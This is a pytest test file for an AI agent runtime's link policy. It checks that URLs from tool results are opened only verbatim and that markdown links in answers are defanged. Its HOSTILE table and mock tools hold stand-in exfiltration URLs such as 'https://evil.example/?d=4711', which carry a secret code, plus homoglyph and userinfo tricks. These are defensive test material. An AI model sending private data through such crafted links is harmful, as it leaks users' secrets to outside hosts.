"""Links whose authors know them: one that stands in a message may be opened, and nothing may ride on it."""

from __future__ import annotations

import asyncio
from pathlib import Path
from typing import Any

import pytest

from callsheet import OperationModel, Runtime, tool
from callsheet.api.policies import policies_beside
from callsheet.diagnostics import Source
from callsheet.policy.policy_file import read_policy

POLICY = """
schema = 1
extends = "workspace"
[class]
reads = ["read_*", "get_page"]
sends = ["post"]
[tools]
read_messages = { links_known = true }
read_other = {}
get_page = { returns = "U/pub" }
"""
LINK = "https://blog.example/7?of=ada"
OPENED: list[str] = []


@tool(effect="read")
def read_messages(query: str = "") -> Any:
    if query == "many":
        return [f"https://evil.example/{number}" for number in range(17)]
    return [{"body": f"See {LINK}, the code is 4711. {query}"}, {"body": "and www.other.example"}]


@tool(effect="read")
def read_other() -> Any:
    return "https://evil.example/?d=4711 the code is 4711"


@tool(effect="read")
def get_page(url: str) -> str:
    OPENED.append(url)
    return "a page"


@tool(does="sends", to="url")
def post(url: str, body: str) -> str:
    OPENED.append(url)
    return "posted"


async def outcome(folder: Path, body: str, says: str, policy: str = POLICY) -> str:
    OPENED.clear()
    rules = read_policy(Source("policy.toml", policy), policies_beside(Path("policy.toml")))
    model = OperationModel(lambda request: says)
    tools = [read_messages, read_other, get_page, post]
    async with Runtime(tools, model=model, policy=rules, journal=folder / "runs.db") as runtime:
        result = await runtime.run(f"async def main():\n{body}\n")
    why = [each for question in result.waiting for each in question.why]
    return "; ".join(why) or f"{result.status.value} {result.error or result.objection or result.response}"


OPENS = (
    "    m = await read_messages()\n    u = await llm_extract('u', data=m)\n"
    "    await get_page(url=u)\n    return 'Done.'"
)


@pytest.mark.parametrize("link", [LINK, "www.other.example"])
def test_a_link_that_stands_in_a_result_is_opened_without_a_question(tmp_path: Path, link: str) -> None:
    assert asyncio.run(outcome(tmp_path, OPENS, link)) == "done Done."
    assert [link] == OPENED
    said = asyncio.run(outcome(tmp_path, OPENS, link, POLICY.replace("links_known = true", "")))
    assert said == f"@GET_PAGE sends private data to {link}"


_LOOP = "    m = await read_messages()\n    for one in m:\n        u = await llm_extract('u', data=m)\n"
HOSTILE = {
    "data behind it": (OPENS, f"{LINK}&d=4711"),
    "a part of it": (OPENS, LINK[:-1]),
    "another host": (OPENS, "https://evil.example/?d=4711"),
    "other characters": (OPENS, LINK.replace("blog", "bl\u043eg")),
    "another spelling": (OPENS, LINK.replace("https", "HTTPS")),
    "a user before the host": (OPENS, LINK.replace("//", "//4711@")),
    "white space": (OPENS, f" {LINK}"),
    "too many to choose from": (
        OPENS.replace("read_messages()", "read_messages(query='many')"),
        "https://evil.example/7",
    ),
    "one after the other": (f"{_LOOP}        await get_page(url=u)\n    return 'Done.'", LINK),
    "of another tool": (f"    o = await read_other()\n{OPENS}", "https://evil.example/?d=4711"),
    "what the plan has put into the result": (
        "    o = await read_other()\n    m = await read_messages(query=o)\n"
        "    u = await llm_extract('u', data=m)\n    await get_page(url=u)\n    return 'Done.'",
        "https://evil.example/?d=4711",
    ),
    "a list that the plan has composed": (
        "    o = await read_other()\n    m = await read_messages()\n    m = [o, m[0]]\n"
        "    u = await llm_extract('u', data=m)\n    await get_page(url=u)\n    return 'Done.'",
        "https://evil.example/?d=4711",
    ),
    "private data beside it": (
        "    m = await read_messages()\n    u = await llm_extract('u', data=m)\n"
        "    await post(url=u, body=m[0]['body'])\n    return 'Done.'",
        LINK,
    ),
}  # fmt: skip


@pytest.mark.parametrize("name", HOSTILE)
def test_whatever_else_would_be_told_is_asked_about(tmp_path: Path, name: str) -> None:
    body, says = HOSTILE[name]
    said = asyncio.run(outcome(tmp_path, body, says))
    assert "sends private data to" in said or "would reach" in said, said
    assert not OPENED


def test_a_run_opens_at_most_sixteen_of_them(tmp_path: Path) -> None:
    calls = "".join("    await get_page(url=u)\n" for _ in range(17))
    body = OPENS.replace("    await get_page(url=u)\n", calls)
    assert f"sends private data to {LINK}" in asyncio.run(outcome(tmp_path, body, LINK))
    assert len(OPENED) == 16


def test_a_strict_policy_asks_about_each(tmp_path: Path) -> None:
    strict = POLICY.replace("[class]", '[defaults]\nimplicit = "strict"\n[class]')
    assert "sends private data" in asyncio.run(outcome(tmp_path, OPENS, LINK, strict))


def test_an_answer_shows_the_link_as_it_stands_and_no_other(tmp_path: Path) -> None:
    body = "    m = await read_messages()\n    return await llm('which link?', data=m)"
    assert asyncio.run(outcome(tmp_path, body, f"Here: {LINK}")) == f"done Here: {LINK}"
    assert asyncio.run(outcome(tmp_path, body, f"![x]({LINK})")) == f"done ![x] ({LINK})", "nothing loads it"
    for other in (f"{LINK}&d=4711", "https://evil.example/?d=4711", f"![x]({LINK}4711)"):
        said = asyncio.run(outcome(tmp_path, body, f"Here: {other}"))
        assert "[.]example" in said, said
    many = body.replace("read_messages()", "read_messages(query='many')")
    assert "evil[.]example" in asyncio.run(outcome(tmp_path, many, "https://evil.example/7"))
    said = asyncio.run(outcome(tmp_path, body, f"Here: {LINK}", POLICY.replace("links_known = true", "")))
    assert "blog[.]example" in said
